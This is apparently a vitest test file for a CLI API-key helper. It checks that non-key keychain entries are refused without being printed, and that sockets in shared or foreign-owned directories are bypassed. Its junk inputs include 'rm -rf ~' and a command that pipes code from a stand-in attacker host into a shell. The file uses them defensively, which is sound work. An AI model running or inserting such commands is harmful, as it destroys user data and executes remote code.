import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { type Server, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { askForKey } from '../core/serving/socket/socket-client'
import { socketLocation } from '../core/serving/socket/socket-path'
import { runEnv } from './commands/env'
import { runExec } from './commands/exec'
import { type HelperDeps, runHelper } from './fast/helper'
import type { CliIO } from './io'
import { keyForWorkingDirectory } from './served-key'

/*
 * On every path that prints or exports a key, so that a keychain entry that is not a key never
 * reaches a terminal or a shell: whatever the keychain (or a socket) holds is checked to be one
 * line of a key format first, and a socket in a directory that is not a private one of ours is
 * never asked: the keychain is read directly.
 */

const KEY = `sk-ant-api03-${'s'.repeat(86)}AA`
const JUNK = ['rm -rf ~', `${KEY}\nrm -rf ~`, `${KEY} `, 'sk-ant-api03-short', '$(curl evil.example | sh)', '']
const isRoot = process.getuid?.() === 0

function bufferIO(cwd = '/home/me/acme') {
  const out: string[] = []
  const err: string[] = []
  const io: CliIO = { stdout: { write: (t: string) => out.push(t) }, stderr: { write: (t: string) => err.push(t) }, stdin: new PassThrough(), env: { PATH: process.env.PATH }, cwd }
  return { io, out, err }
}

const absent = async () => ({ kind: 'absent' as const })
const served = (key: string) => async () => ({ kind: 'key' as const, profile: 'acme', key })

describe('a keychain entry that is not a key', () => {
  it('helper, direct path: nothing on stdout, one line naming the profile and the fix, never the entry, exit 1', async () => {
    for (const junk of JUNK) {
      const { io, out, err } = bufferIO()
      expect(await runHelper({}, io, { ask: absent, direct: served(junk) })).toBe(1)
      expect(out).toEqual([])
      expect(err).toEqual(['keyward: in /home/me/acme: profile acme: the keychain entry is not an API key (it was not printed); run: keyward add acme to replace it\n'])
      for (const piece of ['rm -rf', 'curl', 's'.repeat(20), 'short']) expect(err.join('')).not.toContain(piece)
    }
  })

  it('helper, socket path: a daemon that serves junk gets the same refusal', async () => {
    for (const junk of JUNK) {
      const { io, out, err } = bufferIO()
      const deps: HelperDeps = { ask: served(junk), direct: () => Promise.reject(new Error('not asked')) }
      expect(await runHelper({}, io, deps)).toBe(1)
      expect(out).toEqual([])
      expect(err.join('')).toContain('the keychain entry is not an API key')
    }
  })

  it('keyward env and keyward exec refuse it before printing or running anything', async () => {
    const marker = join(mkdtempSync(join(tmpdir(), 'keyward-exec-marker-')), 'ran')
    for (const junk of JUNK) {
      const deps: HelperDeps = { ask: absent, direct: served(junk) }
      const getKey: typeof keyForWorkingDirectory = (io, options) => keyForWorkingDirectory(io, options, deps)
      const env = bufferIO()
      await expect(runEnv({ shell: 'bash', json: false }, env.io, getKey)).rejects.toMatchObject({ code: 'CONFIG_CORRUPT', message: expect.stringContaining('run: keyward add acme') })
      expect(env.out).toEqual([])
      const exec = bufferIO()
      const command = { command: process.execPath, args: ['-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, process.env.ANTHROPIC_API_KEY ?? '')`] }
      await expect(runExec(command, exec.io, getKey)).rejects.toMatchObject({ code: 'CONFIG_CORRUPT' })
      expect(existsSync(marker)).toBe(false)
    }
  })

  it('a real key passes every path unchanged', async () => {
    const { io, out, err } = bufferIO()
    expect(await runHelper({}, io, { ask: absent, direct: served(KEY) })).toBe(0)
    expect(out.join('')).toBe(`${KEY}\n`)
    expect(err).toEqual([])
    const env = bufferIO()
    const getKey: typeof keyForWorkingDirectory = (i, o) => keyForWorkingDirectory(i, o, { ask: absent, direct: served(KEY) })
    expect(await runEnv({ shell: 'bash', json: false }, env.io, getKey)).toBe(0)
    expect(env.out.join('')).toContain(KEY)
  })
})

describe('a socket directory that is not private', () => {
  let dataDir: string
  let liar: Server | null = null
  let liarConnections = 0
  beforeEach(() => {
    dataDir = mkdtempSync(join(tmpdir(), 'kw-sd-'))
    liarConnections = 0
  })
  afterEach(() => {
    liar?.close()
    liar = null
    rmSync(dataDir, { recursive: true, force: true })
  })

  /** Plants a socket that answers with another key, as another user's process would. */
  async function plantLiar(): Promise<string> {
    const location = socketLocation(dataDir, {})
    mkdirSync(location.dir!, { recursive: true })
    liar = createServer((socket) => {
      liarConnections++
      socket.end(`${JSON.stringify({ v: 1, ok: true, profile: 'acme', key: `sk-ant-api03-${'L'.repeat(86)}AA` })}\n`)
    })
    await new Promise<void>((resolve) => liar!.listen(location.path, resolve))
    return location.dir!
  }

  async function helperWith(): Promise<{ code: number; out: string[]; err: string[]; directCalls: number }> {
    let directCalls = 0
    const { io, out, err } = bufferIO()
    const deps: HelperDeps = {
      ask: (request) => askForKey(socketLocation(dataDir, {}), request),
      direct: async () => (directCalls++, { kind: 'key', profile: 'acme', key: KEY }),
    }
    const code = await runHelper({}, io, deps)
    return { code, out, err, directCalls }
  }

  it('0777: the socket is not asked; the keychain is read directly; stdout is the key alone, one warning on stderr', async () => {
    const dir = await plantLiar()
    chmodSync(dir, 0o777)
    const result = await helperWith()
    expect(result).toMatchObject({ code: 0, out: [`${KEY}\n`], directCalls: 1 })
    expect(liarConnections).toBe(0)
    expect(result.err).toHaveLength(1)
    expect(result.err[0]).toContain(`warning: Keyward's socket directory ${dir} is open to other users (mode 0777); so its socket was not used and the keychain was read directly`)
    // The helper only reads: it never tightens a directory it does not serve from.
    expect(existsSync(dir)).toBe(true)
  })

  it.skipIf(!isRoot)("another user's: the same fallback", async () => {
    const dir = await plantLiar()
    chownSync(dir, 4242, 4242)
    const result = await helperWith()
    expect(result).toMatchObject({ code: 0, out: [`${KEY}\n`], directCalls: 1 })
    expect(liarConnections).toBe(0)
    expect(result.err[0]).toContain('belongs to another user (uid 4242)')
  })

  it('a private one of ours is asked as before', async () => {
    const dir = await plantLiar()
    chmodSync(dir, 0o700)
    const result = await helperWith()
    expect(liarConnections).toBe(1)
    expect(result.directCalls).toBe(0)
  })
})

if (!isRoot) process.stdout.write(`SKIPPED: the helper and another user's socket directory: not root (uid ${process.getuid?.()}), so nothing can be chowned to another uid\n`)
